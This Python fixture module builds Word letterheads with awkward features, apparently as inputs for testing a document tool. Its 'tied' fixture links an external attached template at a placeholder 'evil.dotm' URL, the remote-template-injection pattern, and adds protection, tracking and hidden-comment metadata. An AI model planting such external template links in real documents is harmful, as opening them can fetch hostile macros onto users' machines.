"""Letterheads as offices have them, made by code: what each lacks, names otherwise or is tied to."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import docx
from docx.document import Document
from docx.enum.section import WD_SECTION
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml.ns import nsdecls, qn
from docx.oxml.parser import parse_xml
from docx.shared import Mm
from lxml import etree

CONTENT_TYPES = "[Content_Types].xml"
_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
GERMAN = {
    "Normal": "Standard",
    "heading 1": "Überschrift 1",
    "heading 2": "Überschrift 2",
    "heading 3": "Überschrift 3",
    "Title": "Titel",
    "Subtitle": "Untertitel",
    "List Bullet": "Aufzählungszeichen",
    "List Number": "Listennummer",
    "List Paragraph": "Listenabsatz",
}
FRENCH = {
    "heading 1": "Titre 1",
    "heading 2": "Titre 2",
    "Title": "Titre",
    "Subtitle": "Sous-titre",
    "List Bullet": "Liste à puces",
    "List Number": "Liste à numéros",
}
SPANISH = {
    "heading 1": "Encabezado 1",
    "heading 2": "Encabezado 2",
    "Title": "Título",
    "List Bullet": "Lista con viñetas",
}


def png(width: int = 40, height: int = 20, colour: tuple[int, int, int] = (27, 54, 93)) -> bytes:
    """Return a picture of one colour."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    rows = (b"\0" + bytes(colour) * width) * height
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def jpeg(width: int = 40, height: int = 20) -> bytes:
    """Return the frame of a JPEG of this size; there is no light in it, but a header and an end."""
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 17, 8, height, width, 3) + b"\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    head = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\0\x01\x01\x01\x00\x48\x00\x48\x00\x00"
    scan = b"\xff\xda" + struct.pack(">HB", 12, 3) + b"\x01\x00\x02\x11\x03\x11\x00\x3f\x00" + b"\0" * 4
    return b"\xff\xd8" + head + frame + scan + b"\xff\xd9"


def saved(document: Document) -> bytes:
    """Return a document as a file's content."""
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def entries(content: bytes) -> dict[str, bytes]:
    """Return what each entry of a package holds."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return {name: package.read(name) for name in package.namelist()}


def packed(parts: dict[str, bytes]) -> bytes:
    """Return a package of these entries."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return stream.getvalue()


def changed(content: bytes, name: str, old: bytes, new: bytes) -> bytes:
    """Return a package with something replaced in one of its entries; it must be there."""
    parts = entries(content)
    assert old in parts[name]
    return packed(parts | {name: parts[name].replace(old, new)})


def plain() -> bytes:
    """A4, with the charity's name in the header, and no styles but Word's four defaults; paragraphs without a gap."""
    document = _letter()
    styles = _left_with_defaults(document)
    for old in list(styles.iterfind(f".//{qn('w:pPrDefault')}")):
        old.getparent().remove(old)
    return saved(document)


def renamed(names: dict[str, str]) -> bytes:
    """A letterhead whose styles have names in another language, and ids that Word made of these."""
    document = _letter()
    styles = document.styles.element
    ids: dict[str, str] = {}
    for style in styles.iterchildren(qn("w:style")):
        name = style.find(qn("w:name"))
        local = {english.casefold(): other for english, other in names.items()}.get(name.get(qn("w:val")).casefold())
        if local is not None:
            name.set(qn("w:val"), local)
            ids[style.get(qn("w:styleId"))] = "".join(
                letter for letter in local if letter.isascii() and letter.isalnum()
            )
            style.set(qn("w:styleId"), ids[style.get(qn("w:styleId"))])
    for tag in ("w:basedOn", "w:next", "w:link"):
        for link in styles.iter(qn(tag)):
            link.set(qn("w:val"), ids.get(link.get(qn("w:val")), link.get(qn("w:val"))))
    return saved(document)


def clashing() -> bytes:
    """A letterhead that has a character style “Heading 1”, a table style “Title” and a paragraph style “Hyperlink”."""
    document = _letter()
    styles = document.styles.element
    for style in list(styles.iterchildren(qn("w:style"))):
        if style.find(qn("w:name")).get(qn("w:val")).casefold() in ("heading 1", "title", "hyperlink", "bid table"):
            styles.remove(style)
    for name, kind, identity in (
        ("Heading 1", "character", "Heading1"), ("Title", "table", "Title"), ("Hyperlink", "paragraph", "Hyperlink"),
    ):  # fmt: skip
        styles.append(
            parse_xml(
                f'<w:style {nsdecls("w")} w:type="{kind}" w:customStyle="1" w:styleId="{identity}">'
                f'<w:name w:val="{name}"/></w:style>'
            )
        )
    return saved(document)


def numbered() -> bytes:
    """A letterhead whose headings and lists are numbered by definitions of its own."""
    document = _letter()
    numbering = document.part.numbering_part.element
    numbering.insert(
        0,
        parse_xml(
            f'<w:abstractNum {nsdecls("w")} w:abstractNumId="90"><w:multiLevelType w:val="multilevel"/>'
            + "".join(
                f'<w:lvl w:ilvl="{level}"><w:start w:val="1"/><w:numFmt w:val="decimal"/>'
                f'<w:pStyle w:val="Heading{level + 1}"/><w:lvlText w:val="{text}"/><w:lvlJc w:val="left"/></w:lvl>'
                for level, text in enumerate(("%1.", "%1.%2"))
            )
            + "</w:abstractNum>"
        ),
    )
    numbering.append(parse_xml(f'<w:num {nsdecls("w")} w:numId="90"><w:abstractNumId w:val="90"/></w:num>'))
    numbering.append(parse_xml(f'<w:numIdMacAtCleanup {nsdecls("w")} w:val="9"/>'))
    for level in (1, 2):
        properties = document.styles[f"Heading {level}"].element.get_or_add_pPr()
        number = properties.get_or_add_numPr()
        number.get_or_add_ilvl().val = level - 1
        number.get_or_add_numId().val = 90
    return saved(document)


def with_art() -> bytes:
    """A letterhead with art in its first header, other heads for odd and even pages, and page numbers in its footers."""
    document = _letter(header="")
    section = document.sections[0]
    section.different_first_page_header_footer = True
    document.settings.odd_and_even_pages_header_footer = True
    section.first_page_header.paragraphs[0].add_run().add_picture(io.BytesIO(png(600, 90)), width=Mm(160))
    section.header.paragraphs[0].text = "Netherfell Pathways, odd"
    section.even_page_header.paragraphs[0].text = "Netherfell Pathways, even"
    for footer in (section.first_page_footer, section.footer, section.even_page_footer):
        footer.paragraphs[0].text = "Registered charity 1089464 · "
        for instruction in ("PA", "GE "):  # Word parts what is typed into runs as it likes
            _field_piece(footer.paragraphs[0], instruction, first=instruction == "PA")
        _field_end(footer.paragraphs[0], "1")
    return saved(document)


def of_sections() -> bytes:
    """A letterhead of three sections: art on page one only, then a landscape page, then a plain continuation."""
    document = _letter(header="")
    first = document.sections[0]
    first.header.paragraphs[0].add_run().add_picture(io.BytesIO(png(600, 90)), width=Mm(160))
    first.footer.paragraphs[0].text = "Page-one footer"
    document.add_paragraph("Dear Sir or Madam")
    second = document.add_section(WD_SECTION.NEW_PAGE)
    second.header.is_linked_to_previous = False
    second.header.paragraphs[0].text = "Continuation"
    second.page_width, second.page_height = second.page_height, second.page_width
    document.add_paragraph("A wide table")
    third = document.add_section(WD_SECTION.NEW_PAGE)
    third.page_width, third.page_height = Mm(210), Mm(297)
    third._sectPr.find(qn("w:cols")).set(qn("w:num"), "2")
    document.add_paragraph("Yours faithfully")
    return saved(document)


def themed() -> bytes:
    """A letterhead that has theme fonts and colours, and no heading styles: they must be made in its look."""
    document = _letter()
    _left_with_defaults(document)
    parts = entries(saved(document))
    theme = parts["word/theme/theme1.xml"]
    root = etree.fromstring(theme)
    a = {"a": "http://schemas.openxmlformats.org/drawingml/2006/main"}
    for name, colour in (("dk2", "4A1D5C"), ("accent1", "F2C200"), ("hlink", "8A1253")):
        (scheme,) = root.iterfind(f".//a:clrScheme/a:{name}", a)
        scheme.clear()
        etree.SubElement(scheme, f"{{{a['a']}}}srgbClr", val=colour)
    (major,) = root.iterfind(".//a:fontScheme/a:majorFont/a:latin", a)
    major.set("typeface", "Georgia")
    return packed(parts | {"word/theme/theme1.xml": etree.tostring(root)})


def tied() -> bytes:
    """A letterhead that is tied to a template, protected and tracked, with comments, notes and pictures in its body."""
    document = _letter()
    document.add_picture(io.BytesIO(png(30, 30, (200, 0, 0))))
    paragraph = document.add_paragraph("The tender for Westmead Council")
    document.add_comment(paragraph.runs, "Do not tell them", "Amina Clarke", "AC")
    document.core_properties.subject = "Westmead Council"
    document.core_properties.keywords = "secret"
    settings = document.settings.element
    for tag in ("attachedTemplate", "documentProtection", "trackRevisions", "updateFields"):
        attributes = ' r:id="rId1"' if tag == "attachedTemplate" else ""
        settings.append(parse_xml(f"<w:{tag} {nsdecls('w', 'r')}{attributes}/>"))
    parts = entries(saved(document))
    parts["word/_rels/settings.xml.rels"] = (
        f'<Relationships xmlns="{_RELATIONSHIPS}"><Relationship Id="rId1" Type="{_OFFICE}/attachedTemplate" '
        'Target="https://example.org/evil.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    parts["docProps/thumbnail.jpeg"] = jpeg()
    parts["docProps/app.xml"] = (
        b'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
        b"<Template>Secret.dotm</Template><Company>Netherfell</Company></Properties>"
    )
    return packed(parts)


LETTERHEADS: dict[str, Callable[[], bytes]] = {
    "plain": plain,
    "german": lambda: renamed(GERMAN),
    "french": lambda: renamed(FRENCH),
    "spanish": lambda: renamed(SPANISH),
    "clashing": clashing,
    "numbered": numbered,
    "art": with_art,
    "sections": of_sections,
    "themed": themed,
    "tied": tied,
}


def _left_with_defaults(document: Document) -> Any:
    """Remove every style but Word's four defaults; returns the element of the styles."""
    styles = document.styles.element
    for style in list(styles.iterchildren(qn("w:style"))):
        if style.get(qn("w:default")) != "1":
            styles.remove(style)
    for used in list(document.sections[0].header.part.element.iter(qn("w:pStyle"))):
        used.getparent().remove(used)
    return styles


def _letter(header: str = "Netherfell Pathways") -> Document:
    document = docx.Document()
    section = document.sections[0]
    section.page_width, section.page_height = Mm(210), Mm(297)
    section.left_margin = section.right_margin = Mm(25)
    if header:
        section.header.paragraphs[0].text = header
    if "Hyperlink" not in {style.name for style in document.styles}:
        document.styles.add_style("Hyperlink", WD_STYLE_TYPE.CHARACTER)
    return document


def _field_piece(paragraph: Any, instruction: str, *, first: bool) -> None:
    if first:
        paragraph._p.append(parse_xml(f'<w:r {nsdecls("w")}><w:fldChar w:fldCharType="begin"/></w:r>'))
    paragraph._p.append(parse_xml(f"<w:r {nsdecls('w')}><w:instrText>{instruction}</w:instrText></w:r>"))


def _field_end(paragraph: Any, shown: str) -> None:
    for xml in (
        '<w:r {}><w:fldChar w:fldCharType="separate"/></w:r>', f"<w:r {{}}><w:t>{shown}</w:t></w:r>",
        '<w:r {}><w:fldChar w:fldCharType="end"/></w:r>',
    ):  # fmt: skip
        paragraph._p.append(parse_xml(xml.format(nsdecls("w"))))


def write(content: bytes, path: Path) -> Path:
    """Write a file and return its path."""
    path.write_bytes(content)
    return path
